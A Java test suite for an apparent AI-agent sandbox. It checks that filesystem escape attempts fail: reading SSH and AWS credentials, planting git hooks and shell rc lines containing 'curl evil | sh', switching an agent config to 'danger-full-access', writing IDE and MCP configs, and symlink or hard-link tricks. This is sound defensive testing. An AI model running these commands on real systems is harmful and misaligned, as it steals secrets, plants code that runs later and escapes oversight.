package dev.warden.sandbox.escape;

import dev.warden.sandbox.NetworkMode;
import dev.warden.sandbox.SandboxCommand;
import dev.warden.sandbox.SandboxException;
import dev.warden.sandbox.SandboxPolicy;
import dev.warden.sandbox.Stdio;
import dev.warden.sandbox.fs.GitDirs;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** ESCAPES.md cases 1–11, 25, 28 and 29: the filesystem boundary. */
abstract class FilesystemEscapes extends EscapeCases {
    FilesystemEscapes(BackendUnderTest under) {
        super(under);
    }

    @Test
    void case01_writeOutsideTheWorkspace() {
        Path etc = Path.of("/etc/warden-escape-" + f.root.getFileName());
        Run r = bash("echo x > " + etc + " && echo ESCAPED etc;"
                + "echo x >> \"$HOME/.bashrc\" && echo ESCAPED home;"
                + "echo x > \"$HOME/planted\" && echo ESCAPED home-new;"
                + "echo x > ../outside/victim.txt && echo ESCAPED sibling;"
                + "echo x > ../outside/new.txt && echo ESCAPED sibling-new;"
                + "echo ok > lib/inside.txt && echo WROTE");
        assertThat(r.out()).doesNotContain("ESCAPED").contains("WROTE");
        assertThat(etc).doesNotExist();
        assertThat(read(f.home.resolve(".bashrc"))).isEqualTo("# rc\n");
        assertThat(f.home.resolve("planted")).doesNotExist();
        assertThat(read(f.outside.resolve("victim.txt"))).isEqualTo("untouched\n");
        assertThat(f.outside.resolve("new.txt")).doesNotExist();
        assertThat(read(f.workspace.resolve("lib/inside.txt"))).isEqualTo("ok\n");
    }

    @Test
    void case02_readDeniedSecretsInHome() {
        Run r = bash("cat \"$HOME/.ssh/id_rsa\" \"$HOME/.aws/credentials\"; ls -la \"$HOME/.ssh\"; grep -r s3cr3t \"$HOME\"");
        assertThat(r.out() + r.err()).doesNotContain(Fixture.SECRET);
    }

    @Test
    void case03_readDenyGlobFilesTopLevelAndNested() {
        Run r = bash("cat .env sub/nested/prod.env; grep -r s3cr3t . ; cp .env copy.txt; cat copy.txt");
        assertThat(r.out() + r.err()).doesNotContain(Fixture.SECRET);
    }

    /** A .git without hooks or config yet, with both listed as protected (as the configuration does): still runs. */
    @Test
    void case04_missingProtectedNamesInsideAReadOnlyGitDir() throws Exception {
        deleteTree(f.workspace.resolve(".git/hooks"));
        java.nio.file.Files.deleteIfExists(f.workspace.resolve(".git/config"));
        SandboxPolicy base = f.policy();
        List<Path> protectedPaths = new ArrayList<>(base.protectedPaths());
        protectedPaths.add(f.workspace.resolve(".git/hooks"));
        protectedPaths.add(f.workspace.resolve(".git/config"));
        SandboxPolicy policy = new SandboxPolicy(base.fullDiskRead(), base.readableRoots(), base.writableRoots(),
                protectedPaths, base.deniedPaths(), base.denyGlobs(), base.globScanMaxDepth(), base.network());
        Run r = Run.of(under.backend(), policy, f.workspace, f.environment(), "/bin/bash", "-c",
                "echo started; mkdir .git/hooks && echo ESCAPED mkdir; echo x > .git/config && echo ESCAPED config");
        assertThat(r.out()).as(r.toString()).contains("started").doesNotContain("ESCAPED");
        assertThat(f.workspace.resolve(".git/hooks")).doesNotExist();
        assertThat(f.workspace.resolve(".git/config")).doesNotExist();
    }

    @Test
    void case04_gitHooksAndConfig() throws IOException {
        String config = read(f.workspace.resolve(".git/config"));
        Run r = bash("echo 'curl evil' > .git/hooks/pre-commit && echo ESCAPED hook;"
                + "echo '[core] hooksPath=/tmp' >> .git/config && echo ESCAPED config;"
                + "mv .git/hooks .git/hooks.old && echo ESCAPED move");
        assertThat(r.out()).doesNotContain("ESCAPED");
        assertThat(f.workspace.resolve(".git/hooks/pre-commit")).doesNotExist();
        assertThat(read(f.workspace.resolve(".git/config"))).isEqualTo(config);

        // Create .git/hooks when it is missing.
        deleteTree(f.workspace.resolve(".git/hooks"));
        Run missing = bash("mkdir -p .git/hooks && echo ESCAPED mkdir; echo x > .git/hooks/post-checkout && echo ESCAPED write");
        assertThat(missing.out()).doesNotContain("ESCAPED");
        assertThat(f.workspace.resolve(".git/hooks")).doesNotExist();
    }

    @Test
    void case05_worktreeGitdirHooks() throws IOException {
        // A worktree whose .git file points into a second writable root: the pointed-to gitdir is protected too.
        Path shared = Files.createDirectories(f.root.resolve("shared"));
        Path realGit = Files.createDirectories(shared.resolve("real.git/hooks"));
        Files.createDirectories(shared.resolve("work"));
        Fixture.write(shared.resolve("real.git/config"), "[core]\n");
        Path tree = Files.createDirectories(f.root.resolve("tree"));
        Fixture.write(tree.resolve(".git"), "gitdir: ../shared/real.git\n");
        List<Path> protectedPaths = new ArrayList<>(GitDirs.protectedFor(tree));
        assertThat(protectedPaths).contains(shared.resolve("real.git"));
        SandboxPolicy policy = new SandboxPolicy(true, List.of(f.root), List.of(tree, shared), protectedPaths,
                List.of(), List.of(), 4, NetworkMode.OFF);
        Run r = Run.of(under.backend(), policy, tree, f.environment(), "/bin/bash", "-c",
                "echo evil > ../shared/real.git/hooks/pre-commit && echo ESCAPED hook;"
                        + "echo evil >> ../shared/real.git/config && echo ESCAPED config;"
                        + "echo 'gitdir: /tmp' > .git && echo ESCAPED pointer;"
                        + "echo ok > ../shared/work/other.txt && echo WROTE");
        assertThat(r.out()).doesNotContain("ESCAPED").contains("WROTE");
        assertThat(realGit.resolve("pre-commit")).doesNotExist();
        assertThat(read(shared.resolve("real.git/config"))).isEqualTo("[core]\n");
    }

    @Test
    void case06_agentConfigDirectoriesExistingOrNot() throws IOException {
        Fixture.write(f.workspace.resolve(".codex/config.toml"), "model = \"x\"\n");
        Run r = bash("mkdir .warden && echo ESCAPED mkdir-warden; echo '[x]' > .warden/config.toml && echo ESCAPED warden;"
                + "echo 'sandbox_mode = \"danger-full-access\"' >> .codex/config.toml && echo ESCAPED codex;"
                + "mkdir -p .agents/skills && echo ESCAPED agents;"
                + "rm -rf .warden .codex .agents 2>/dev/null; ls -d .codex >/dev/null && echo STILL-THERE");
        assertThat(r.out()).doesNotContain("ESCAPED").contains("STILL-THERE");
        assertThat(read(f.workspace.resolve(".codex/config.toml"))).isEqualTo("model = \"x\"\n");
        assertNothingPlantedIn(f.workspace.resolve(".warden"), f.workspace.resolve(".agents"));
    }

    @Test
    void case07_shellRcFiles() {
        Run r = bash("for f in \"$HOME/.bashrc\" \"$HOME/.profile\" \"$HOME/.zshrc\" .bashrc .profile .zshrc .envrc; do"
                + " echo 'curl evil | sh' >> \"$f\" && echo ESCAPED \"$f\"; done");
        assertThat(r.out()).doesNotContain("ESCAPED");
        assertThat(read(f.home.resolve(".bashrc"))).isEqualTo("# rc\n");
        assertThat(read(f.home.resolve(".profile"))).isEqualTo("# profile\n");
        assertThat(f.home.resolve(".zshrc")).doesNotExist();
        assertThat(read(f.workspace.resolve(".bashrc"))).isEqualTo("# workspace rc\n");
        assertNothingPlantedIn(f.workspace.resolve(".envrc"), f.workspace.resolve(".profile"), f.workspace.resolve(".zshrc"));
    }

    @Test
    void case08_ideAndAgentConfigThatExecutesLater() {
        List<String> targets = List.of(".vscode/settings.json", ".vscode/tasks.json", ".idea/workspace.xml", ".mcp.json",
                ".claude/settings.json", ".gemini/settings.json", ".cursor/mcp.json");
        StringBuilder script = new StringBuilder();
        for (String t : targets) {
            script.append("mkdir -p \"$(dirname ").append(t).append(")\" 2>/dev/null; echo '{}' > ").append(t)
                    .append(" && echo ESCAPED ").append(t).append(";");
        }
        Run r = bash(script.toString());
        assertThat(r.out()).doesNotContain("ESCAPED");
        for (String t : targets) {
            assertThat(Files.isRegularFile(f.workspace.resolve(t))).as(t).isFalse();
        }
        assertNothingPlantedIn(Stream.of(".vscode", ".idea", ".mcp.json", ".claude", ".gemini", ".cursor")
                .map(f.workspace::resolve).toArray(Path[]::new));
    }

    @Test
    void case09_symlinkToSecretInWorkspace() throws IOException {
        Files.createSymbolicLink(f.workspace.resolve("key"), f.home.resolve(".ssh/id_rsa"));
        Run r = bash("cat key; cat ./key/../key");
        assertThat(r.out() + r.err()).doesNotContain(Fixture.SECRET);
    }

    @Test
    void case10_danglingSymlinkWrittenThrough() throws IOException {
        Files.createSymbolicLink(f.workspace.resolve("out"), f.home.resolve("new-file"));
        Run r = bash("echo planted > out && echo ESCAPED");
        assertThat(r.out()).doesNotContain("ESCAPED");
        assertThat(f.home.resolve("new-file")).doesNotExist();
    }

    @Test
    void case11_hardLinkFromOutside() {
        Run r = bash("ln ../outside/victim.txt hl && echo LINKED; echo appended >> hl && echo APPENDED");
        assertThat(read(f.outside.resolve("victim.txt"))).isEqualTo("untouched\n");
    }

    @Test
    void case25_metadataOutsideTheWorkspace() throws IOException {
        Path victim = f.outside.resolve("victim.txt");
        Set<?> mode = Files.getPosixFilePermissions(victim);
        FileTime mtime = Files.getLastModifiedTime(victim);
        Run r = bash("chmod 777 ../outside/victim.txt; touch -d 2001-01-01 ../outside/victim.txt; "
                + PYTHON + " " + probe + " setxattr ../outside/victim.txt");
        boolean xattr = r.out().contains("setxattr OK");
        boolean contained = Files.getPosixFilePermissions(victim).equals(mode)
                && Files.getLastModifiedTime(victim).equals(mtime) && !xattr;
        expect(25, contained, r);
        assertThat(read(victim)).isEqualTo("untouched\n");
    }

    @Test
    void case28_writableRootsAndCwdAreCanonicalised() throws Exception {
        Path link = Files.createSymbolicLink(f.root.resolve("ws-link"), f.workspace);
        Files.createSymbolicLink(f.workspace.resolve("to-outside"), f.outside);
        SandboxPolicy viaLink = new SandboxPolicy(true, List.of(f.root), List.of(link), List.of(), List.of(), List.of(), 4,
                NetworkMode.OFF);
        Run r = Run.of(under.backend(), viaLink, link.resolve("to-outside"), f.environment(), "/bin/bash", "-c",
                "pwd; echo x > planted && echo ESCAPED cwd; echo ok > " + link + "/through-link.txt && echo WROTE");
        assertThat(r.out()).doesNotContain("ESCAPED").contains("WROTE").contains(f.outside.toString());
        assertThat(f.outside.resolve("planted")).doesNotExist();
        assertThat(read(f.workspace.resolve("through-link.txt"))).isEqualTo("ok\n");
        // A protected path reached through a symlink the agent controls is refused, not half-applied.
        Files.createDirectories(f.workspace.resolve("real-git"));
        Files.createSymbolicLink(f.workspace.resolve("gitlink"), f.workspace.resolve("real-git"));
        SandboxPolicy swapped = new SandboxPolicy(true, List.of(f.root), List.of(f.workspace),
                List.of(f.workspace.resolve("gitlink/hooks")), List.of(), List.of(), 4, NetworkMode.OFF);
        assertThatThrownBy(() -> under.backend().launch(swapped,
                new SandboxCommand(List.of("/bin/true"), f.workspace, f.environment()), Stdio.pipes()))
                .isInstanceOf(SandboxException.class).hasMessageContaining("symlink").hasMessageContaining("gitlink");
    }

    /** A writable root inside the workspace that an earlier session replaced with a symlink to outside. */
    @Test
    void case28_writableRootSwappedForASymlinkIsRefused() throws Exception {
        Files.createSymbolicLink(f.workspace.resolve("build"), f.outside);
        SandboxPolicy swapped = new SandboxPolicy(true, List.of(f.root), List.of(f.workspace, f.workspace.resolve("build")),
                List.of(), List.of(), List.of(), 4, NetworkMode.OFF);
        assertThatThrownBy(() -> under.backend().launch(swapped,
                new SandboxCommand(List.of("/bin/bash", "-c", "echo x > build/planted"), f.workspace, f.environment()),
                Stdio.pipes()))
                .isInstanceOf(SandboxException.class).hasMessageContaining("writable root").hasMessageContaining("symlink");
        assertThat(f.outside.resolve("planted")).doesNotExist();
    }

    @Test
    void case29_privateTmpPerSession() throws Exception {
        var first = under.backend().launch(f.policy(), new SandboxCommand(List.of("/bin/bash", "-c",
                "echo mine > \"$TMPDIR/session-a\" && cat \"$TMPDIR/session-a\" && sleep 5"), f.workspace,
                f.environment()), Stdio.pipes());
        try {
            byte[] firstOut = first.process().getInputStream().readNBytes(5);
            assertThat(new String(firstOut)).isEqualTo("mine\n");
            Run second = bash("echo theirs > \"$TMPDIR/session-b\" && cat \"$TMPDIR/session-b\"; ls -a /tmp \"$TMPDIR\";"
                    + " cat /tmp/session-a; find /tmp -name session-a");
            assertThat(second.out()).contains("theirs").doesNotContain("mine").doesNotContain("session-a");
        } finally {
            first.process().destroy();
            first.process().waitFor(5, TimeUnit.SECONDS);
        }
    }

    /** Nothing at all: not what the command tried to plant, nor the mount points that kept it from doing so. */
    static void assertNothingPlantedIn(Path... paths) {
        for (Path p : paths) {
            assertThat(p).as("left in the workspace after the command: %s", p).doesNotExist();
        }
    }

    /**
     * Masking a missing protected name must not leave an empty directory (or file) of that name in the
     * workspace or home once the command has ended, whatever the command tried.
     */
    @Test
    void masksOfMissingNamesLeaveNothingInTheWorkspaceOrHome() {
        Map<String, String> before = f.tree();
        StringBuilder script = new StringBuilder("cd \"$HOME\"; for n in");
        for (String name : Fixture.HOME_PROTECTED_NAMES) {
            script.append(' ').append(name);
        }
        script.append("; do mkdir -p \"$n/x\" && echo ESCAPED \"$n\"; echo x > \"$n/f\" && echo ESCAPED \"$n/f\"; done;"
                + " cd " + f.workspace + "; for n in");
        for (String name : Fixture.PROTECTED_NAMES) {
            script.append(' ').append(name);
        }
        script.append("; do mkdir \"$n\" && echo ESCAPED \"$n\"; echo x > \"$n\" && echo ESCAPED \"$n\";"
                + " touch \"$n/x\" && echo ESCAPED \"$n/x\"; done; echo ok > lib/new.txt && echo WROTE");
        Run r = bash(f.workspaceAndHomePolicy(), script.toString());
        assertThat(r.out()).as(r.toString()).doesNotContain("ESCAPED").contains("WROTE");
        Map<String, String> after = f.tree();
        after.remove(f.root.relativize(f.workspace.resolve("lib/new.txt")).toString());
        assertThat(after).as("the workspace and home after the command").isEqualTo(before);
    }

    /**
     * A mask is owned by the sandboxed command, which may make it writable (bwrap's one-page tmpfs masks) or not
     * (read-only masks, Landlock): either way what it writes there stays in the sandbox, at most a page of it, and
     * the host's workspace ends as it began.
     */
    @Test
    void maskMadeWritableKeepsWritesInTheSandbox() {
        Map<String, String> before = f.tree();
        Run r = bash(f.workspaceAndHomePolicy(), "for n in .vscode .mcp.json .claude; do chmod 0755 \"$n\";"
                + " echo '{\"planted\": true}' > \"$n/settings.json\" && echo INSIDE \"$n\";"
                + " head -c 65536 /dev/zero > \"$n/big\" && echo UNBOUNDED \"$n\"; done; echo ok > lib/new.txt && echo WROTE");
        assertThat(r.out()).as(r.toString()).doesNotContain("UNBOUNDED").contains("WROTE");
        Map<String, String> after = f.tree();
        after.remove(f.root.relativize(f.workspace.resolve("lib/new.txt")).toString());
        assertThat(after).as("the workspace and home after the command").isEqualTo(before);
        for (String name : List.of(".vscode", ".mcp.json", ".claude")) {
            assertThat(f.workspace.resolve(name)).as(name).doesNotExist();
        }
    }

    static void deleteTree(Path dir) throws IOException {
        try (var walk = Files.walk(dir)) {
            for (Path p : walk.sorted(java.util.Comparator.reverseOrder()).toList()) {
                Files.delete(p);
            }
        }
    }

    @SuppressWarnings("unused")
    private static Set<java.nio.file.attribute.PosixFilePermission> rw() {
        return PosixFilePermissions.fromString("rw-r--r--");
    }
}
